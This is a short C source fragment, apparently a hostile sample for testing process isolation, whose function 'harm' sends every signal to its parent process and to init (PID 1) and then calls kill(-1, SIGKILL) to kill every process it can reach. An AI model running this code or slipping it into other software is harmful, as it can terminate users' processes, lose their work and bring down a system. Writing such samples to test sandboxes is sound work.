/* Sends every signal to its parent, to the first process, and to all that it may. */
#include "beside.h"

static int harm(void)
{
	for (int number = 1; number < NSIG; number++) {
		kill(getppid(), number);
		kill(1, number);
	}
	kill(-1, SIGKILL);
	return 5;
}
